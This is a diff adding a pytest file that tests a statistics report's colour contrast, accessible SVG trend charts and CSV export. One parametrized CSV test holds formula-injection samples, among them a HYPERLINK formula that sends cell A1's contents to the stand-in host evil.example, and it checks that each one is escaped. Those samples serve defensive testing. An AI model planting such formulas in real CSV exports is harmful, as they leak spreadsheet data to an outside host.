@@ -1,0 +1,82 @@
+"""The report's parts on their own (no flow): the significance palette's contrast, the trend charts,
+and the CSV downloads' formula safety."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+import xml.etree.ElementTree as ET
+from decimal import Decimal
+
+import pytest
+
+from scorecard.publish.charts import TrendPoint, trend_chart
+from scorecard.publish.downloads import BOM, csv_text
+from scorecard.publish.significance import CHART_BENCHMARK, CHART_VALUE, NOT_COMPARED, PAPER, SHADES, contrast_ratio, shade
+
+SVG = "{http://www.w3.org/2000/svg}"
+
+
+def test_contrast_ratio_matches_wcag_reference_values():
+    assert contrast_ratio("#000000", "#ffffff") == pytest.approx(21.0)
+    assert contrast_ratio("#ffffff", "#ffffff") == pytest.approx(1.0)
+    assert contrast_ratio("#767676", "#ffffff") == pytest.approx(4.54, abs=0.01)  # the lightest grey passing AA on white
+    assert contrast_ratio("#d4351c", "#ffffff") < 5  # GOV.UK red: order of the arguments does not matter
+    assert contrast_ratio("#ffffff", "#d4351c") == contrast_ratio("#d4351c", "#ffffff")
+
+
+@pytest.mark.parametrize("name", [*SHADES, None])
+def test_every_significance_shade_has_aa_text_contrast_and_a_word_and_symbol(name):
+    colour = shade(name)
+    assert contrast_ratio(colour.text, colour.background) >= 4.5, name
+    assert colour.word and colour.symbol and colour.symbol not in colour.word
+    assert (colour is NOT_COMPARED) == (name is None)
+
+
+def test_the_significance_words_are_all_different_and_the_chart_marks_stand_out_from_the_page():
+    assert len({s.word for s in SHADES.values()}) == len({s.symbol for s in SHADES.values()}) == len(SHADES) == 5
+    assert set(SHADES) == {"better", "similar", "worse", "higher", "lower"}
+    for colour in (CHART_VALUE, CHART_BENCHMARK):
+        assert contrast_ratio(colour, PAPER) >= 3  # WCAG 1.4.11 non-text contrast
+
+
+POINTS = [
+    TrendPoint(2020, 61.0, 55.0, 67.0, 58.0),
+    TrendPoint(2021, None, None, None, 59.5),  # suppressed
+    TrendPoint(2022, 64.5, 60.1, 68.9, 60.0),
+    TrendPoint(2023, 66.0, 62.0, 70.0, None),
+]
+
+
+def test_a_trend_chart_is_titled_described_and_leaves_a_suppressed_year_as_a_gap():
+    svg = trend_chart(POINTS, "NI7 <% positive>", "%", "all surveyed areas & more", "trend-ni7")
+    root = ET.fromstring(svg)  # well-formed, the hostile label escaped
+    assert root.get("role") == "img" and root.get("aria-labelledby") == "trend-ni7-title trend-ni7-desc"
+    assert root.find(f"{SVG}title").get("id") == "trend-ni7-title"
+    assert root.find(f"{SVG}title").text == "NI7 <% positive>: trend with 95% intervals"
+    desc = root.find(f"{SVG}desc").text
+    assert "2021: suppressed" in desc and "2020: 61.0% (95% interval 55.0% to 67.0%), all surveyed areas & more 58.0%" in desc
+    assert len(root.findall(f"{SVG}circle")) == 3 + 1  # three published years, and the key's point
+    value_lines = [line for line in root.findall(f"{SVG}polyline") if line.get("stroke") == CHART_VALUE]
+    assert [len(line.get("points").split()) for line in value_lines] == [2]  # 2022–2023 joined; 2020 alone, not across 2021
+    assert [t.text for t in root.iter(f"{SVG}text") if t.get("class") == "gap"] == ["suppressed"]
+    assert len([p for p in root.findall(f"{SVG}path") if p.get("stroke") == CHART_VALUE]) == 3  # one whisker per published year
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    assert text.startswith(BOM)
+    return list(csv.reader(io.StringIO(text[len(BOM) :])))
+
+
+@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tX", "\rX"])
+def test_a_csv_text_cell_that_starts_like_a_formula_is_made_text(hostile):
+    rows = csv_rows(csv_text(["name", "value"], [{"name": hostile, "value": -1.5}, {"name": "Bristol", "value": None}]))
+    assert rows == [["name", "value"], ["'" + hostile, "-1.5"], ["Bristol", ""]]  # negative numbers stay numbers
+
+
+def test_csv_cells_keep_numbers_dates_and_booleans_and_header_names_are_safe_too():
+    text = csv_text(["=x", "n"], [{"=x": dt.date(2024, 1, 2), "n": Decimal("-0.25")}, {"=x": True, "n": 3}])
+    assert csv_rows(text) == [["'=x", "n"], ["2024-01-02", "-0.25"], ["true", "3"]]
+    assert re.search(r"\r\n$", text)
